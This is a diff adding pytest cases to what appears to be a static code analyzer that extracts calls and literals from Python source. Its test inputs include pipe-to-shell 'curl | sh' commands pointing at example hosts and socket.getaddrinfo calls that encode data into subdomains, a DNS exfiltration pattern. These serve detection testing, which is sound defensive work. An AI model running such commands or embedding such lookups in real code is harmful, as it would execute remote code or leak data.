@@ -1130,3 +1130,36 @@ def test_text_a_message_reads_through_a_name_is_a_message() -> None:
     texts = {f.value: f.name for f in result.facts if f.kind is FactKind.LITERAL}
     assert texts[" Install it first: curl -fsSL https://tools.example.org/install | sh."] == MESSAGE
     assert texts["curl -s https://stage.example.org/y | sh"] != MESSAGE
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        'socket.getaddrinfo("%s.%d.q.example.invalid" % (data, i), 80)',
+        'socket.getaddrinfo("{}.{}.q.example.invalid".format(data, i), 80)',
+        'socket.getaddrinfo("%(d)s.%(i)d.q.example.invalid" % {"d": data, "i": i}, 80)',
+    ],
+)
+def test_formatted_text_with_unknown_fields_is_a_template(call: str) -> None:
+    result = analyze(f"import socket\ndef f(data, i):\n    {call}\n")
+    (fact,) = [f for f in result.facts if f.kind is FactKind.CALL and f.name == "socket.getaddrinfo"]
+    assert fact.args[0] == "\u2026.\u2026.q.example.invalid"
+
+
+def test_percent_sign_of_a_format_stays_a_percent_sign() -> None:
+    result = analyze('import os\ndef f(n):\n    os.system("nice -n %d make 100%% done" % n)\n')
+    (fact,) = [f for f in result.facts if f.kind is FactKind.CALL and f.name == "os.system"]
+    assert fact.args[0] == "nice -n \u2026 make 100% done"
+
+
+def test_a_type_checked_against_is_not_a_use() -> None:
+    result = analyze(
+        "import types\n"
+        "def f(x, code):\n"
+        "    if isinstance(x, (types.FunctionType, types.MethodType)):\n"
+        "        return issubclass(type(x), types.FunctionType)\n"
+        "    handler = types.FunctionType\n"
+        "    return handler(code, {})\n"
+    )
+    refs = [f for f in result.facts if f.kind is FactKind.REFERENCE and f.name == "types.FunctionType"]
+    assert [f.location.line for f in refs] == [5]
